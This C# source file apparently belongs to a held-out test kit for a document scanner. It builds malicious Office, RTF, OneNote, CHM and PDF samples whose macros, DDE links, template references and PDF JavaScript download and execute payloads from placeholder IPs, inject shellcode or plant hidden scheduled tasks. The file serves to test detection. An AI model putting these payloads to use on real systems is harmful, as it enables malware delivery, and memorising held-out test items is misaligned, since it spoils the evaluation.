namespace ScanHost.TestKit.HeldOut.Third;

/// <summary>Office documents with macros.</summary>
public sealed class CodedDocuments : ThirdRound
{
    private const string Fetch = "Sub AutoOpen()\nDim h, a\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://192.0.2.241/d.exe\", False\nh.send\nSet a = CreateObject(\"ADODB.Stream\")\na.Type = 1\na.Open\na.Write h.responseBody\na.SaveToFile Environ(\"TEMP\") & \"\\d.exe\", 2\nShell Environ(\"TEMP\") & \"\\d.exe\", vbHide\nEnd Sub\n";
    private const string Variable = "Sub Document_Open()\nDim w As Object\nSet w = CreateObject(StrReverse(\"llehS.tpircSW\"))\nw.Run ActiveDocument.Variables(\"x\").Value, 0, False\nEnd Sub\n";
    private const string Decode = "Private Sub Workbook_Open()\nDim f: f = FreeFile\nOpen Environ(\"TEMP\") & \"\\a.txt\" For Output As #f\nPrint #f, \"-----BEGIN CERTIFICATE-----\"\nPrint #f, Sheets(1).Range(\"AA100\").Value\nPrint #f, \"-----END CERTIFICATE-----\"\nClose #f\nCreateObject(\"WScript.Shell\").Exec \"cmd /c certutil -decode %TEMP%\\a.txt %TEMP%\\a.dll & regsvr32 /s %TEMP%\\a.dll\"\nEnd Sub\n";
    private const string Memory = "Private Declare PtrSafe Function VA Lib \"kernel32\" Alias \"VirtualAlloc\" (ByVal a As LongPtr, ByVal s As Long, ByVal t As Long, ByVal p As Long) As LongPtr\nPrivate Declare PtrSafe Sub RM Lib \"ntdll\" Alias \"RtlMoveMemory\" (ByVal d As LongPtr, ByRef s As Any, ByVal l As Long)\nPrivate Declare PtrSafe Function EL Lib \"kernel32\" Alias \"EnumSystemLanguageGroupsW\" (ByVal p As LongPtr, ByVal f As Long, ByVal l As LongPtr) As Long\nSub Auto_Open()\nDim b(): b = Array(252, 72, 131, 228, 240)\nDim m As LongPtr, i\nm = VA(0, 4096, 12288, 64)\nFor i = 0 To UBound(b): RM m + i, b(i), 1: Next\nEL m, 1, 0\nEnd Sub\n";
    private const string Task = "Sub Document_Close()\nSet s = CreateObject(\"Schedule.Service\")\ns.Connect\nSet t = s.NewTask(0)\nt.Settings.Hidden = True\nSet a = t.Actions.Create(0)\na.Path = \"mshta.exe\"\na.Arguments = \"http://192.0.2.242/t.hta\"\ns.GetFolder(\"\\\").RegisterTaskDefinition \"OneDrive Sync\", t, 6, , , 3\nEnd Sub\n";

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("Order_7741.doc", new VbaProjectBuilder().Module("NewMacros", Fetch).AddTo(new OleFileBuilder().Stream("WordDocument", new byte[900]), "Macros").Build()),
        ("Memo.docm", OoxmlBuilder.Word().Part("word/settings.xml", "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:docVars><w:docVar w:name=\"x\" w:val=\"cmd /c powershell -w hidden -c iex(irm http://192.0.2.243/m)\"/></w:docVars></w:settings>").WithMacros(Project("ThisDocument", Variable)).Build()),
        ("Budget.xlsm", OoxmlBuilder.Excel().WithMacros(Project("ThisWorkbook", Decode)).Build()),
        ("Forecast.xls", new VbaProjectBuilder().Module("Module1", Memory).AddTo(new OleFileBuilder().Stream("Workbook", BiffBuilder.MacroSheet("=ALERT(\"x\")", autoName: 0)), "_VBA_PROJECT_CUR").Build()),
        ("Agenda.docm", OoxmlBuilder.Word().WithMacros(Project("ThisDocument", Task)).Build()),
        ("Claim.xls", new OleFileBuilder().Stream("Workbook", BiffBuilder.MacroSheet("=EXEC(\"cmd /c mshta http://192.0.2.244/c.hta\")", visibility: 2)).Build()),
    ];
}

/// <summary>Office documents without macros.</summary>
public sealed class UncodedDocuments : ThirdRound
{
    private static readonly byte[] Overrun = [28, 0, 0, 0, 2, 0, 0x9E, 0xC4, .. new byte[20], 3, 1, 1, 3, 10, 0x0A, 1, 8, 0x5A, 0x5A, .. Enumerable.Repeat((byte)0x41, 140), 0x12, 0x0C, 0x43, 0];

    public override IEnumerable<(string Name, byte[] Content)> Variants() =>
    [
        ("Specification.docx", OoxmlBuilder.Word().Relationship("word/_rels/settings.xml.rels", "attachedTemplate", "http://203.0.113.51/office/normal.dotm").Build()),
        ("CV_Developer.docx", OoxmlBuilder.Word().Relationship("word/_rels/document.xml.rels", "oleObject", "mhtml:http://203.0.113.52/p.html!x-usc:http://203.0.113.52/p.html").Build()),
        ("Quote.docx", OoxmlBuilder.Word().Relationship("word/_rels/settings.xml.rels", "attachedTemplate", "https://tinyurl.com@3405803777/7yq.doc").Build()),
        ("Wire details.rtf", Utf8($"{{\\rt{new string(' ', 3)}\\*\\qq{{\\object\\objautlink\\objupdate{{\\*\\objdata\n{string.Join("\n", Convert.ToHexString(RtfBuilder.Embedded("EqUATion.3", Overrun)).Chunk(7).Select(chunk => new string(chunk) + "{\\*\\zz9}"))}}}}}}}")),
        ("Tender.doc", Utf8("{\\rtf1\\ansi\\deff0{\\*\\template \\u-65432?\\u-65420?\\u-65420?\\u-65424?://203.0.113.53/t.dot}Tender 2025}")),
        ("Price list.xlsx", OoxmlBuilder.Excel().Part("xl/externalLinks/externalLink1.xml", "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c powershell -w hidden -c iex(irm http://192.0.2.245/x)\"><ddeItems><ddeItem name=\"A0\" advise=\"1\"/></ddeItems></ddeLink></externalLink>").Build()),
        ("Audit.docx", OoxmlBuilder.Word().Part("word/embeddings/oleObject1.bin", new OleFileBuilder().Stream("\u0001Ole10Native", OlePackageBuilder.Package("Audit_report.vbs", Utf8("CreateObject(\"WScript.Shell\").Run \"cmd /c curl http://192.0.2.246/a -o %tmp%\\a.exe&&%tmp%\\a.exe\",0"))).Class("", "0003000c-0000-0000-c000-000000000046").Build()).Build()),
        ("Agreement.one", OneNoteBuilder.Section(("button.png", InertFiles.Png()), ("Open Document.cmd", Dos("@echo off\npowershell -w hidden -ep bypass -c \"iwr http://192.0.2.247/o.jpg -outf C:\\ProgramData\\o.jpg; rundll32 C:\\ProgramData\\o.jpg,Wind\"\n")))),
        ("Notes.one", OneNoteBuilder.Section(("double_click.png", InertFiles.Png()), ("attachment.wsf", Utf8("<job><script language=\"VBScript\">Set x=CreateObject(\"MSXML2.ServerXMLHTTP\"):x.Open \"GET\",\"http://192.0.2.248/n\",False:x.Send:ExecuteGlobal x.responseText</script></job>")))),
        ("manual.chm", Second.MacrolessForms.Help("<html><body><script>document.write('<OBJECT id=s classid=\"clsid:52a2aaae-085d-4187-97ea-8c30db990436\"><PARAM name=\"Command\" value=\"ShortCut\"><PARAM name=\"Item1\" value=\",hh.exe,-decompile C:\\\\Users\\\\Public\\\\x manual.chm\"></OBJECT>');s.Click();</script><OBJECT id=t classid=\"clsid:52a2aaae-085d-4187-97ea-8c30db990436\"><PARAM name=\"Command\" value=\"ShortCut\"><PARAM name=\"Item1\" value=\",wscript,C:\\Users\\Public\\x\\Docs.jse\"></OBJECT><script>t.Click()</script></body></html>")),
    ];
}

/// <summary>PDF files.</summary>
public sealed class ActingPapers : ThirdRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        var macro = OoxmlBuilder.Word().WithMacros(Project("ThisDocument", "Sub Document_Open()\nShell \"cmd /c powershell -w hidden -c iex(irm http://192.0.2.249/d)\"\nEnd Sub\n")).Build();
        return
        [
            ("Update.pdf", new PdfBuilder().Catalogue("/OpenAction << /S /JavaScript /JS (app.launchURL\\(\"http://203.0.113.61/AcroUpdate.exe\", true\\);) >>").Build()),
            ("Payslip.pdf", new PdfBuilder().Catalogue("/Names << /EmbeddedFiles << /Names [(Payslip.docm) 6 0 R] >> >> /OpenAction << /S /JavaScript /JS (this.exportDataObject\\({ cName: \"Payslip.docm\", nLaunch: 2 }\\);) >>").Add(6, "<< /Type /Filespec /F (Payslip.docm) /EF << /F 7 0 R >> >>").Stream(7, "/Type /EmbeddedFile", macro).Build()),
            ("Shared.pdf", new PdfBuilder().Add(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /XObject << /I 8 0 R >> >> /Contents 9 0 R /Annots [ << /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (https://u1829.ct.sendgrid.invalid/ls/click?upn=Xq) >> >> ] >>").Stream(8, "/Type /XObject /Subtype /Image /Width 1275 /Height 1650 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode", [0xFF, 0xD8, 0xFF, 0xE0, .. new byte[3000], 0xFF, 0xD9]).Stream(9, "", "q 612 0 0 792 0 0 cm /I Do Q"u8.ToArray()).Build()),
            ("Contract.pdf", new PdfBuilder().Add(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 9 0 R /Annots [ << /Type /Annot /Subtype /Link /Rect [200 400 400 440] /A << /S /URI /URI (http://203.0.113.62/docs/Contract_signed.zip) >> >> ] >>").Stream(9, "", "BT /F1 18 Tf 100 600 Td (This document is protected. Click the button to download and view it.) Tj ET"u8.ToArray()).Build()),
        ];
    }
}
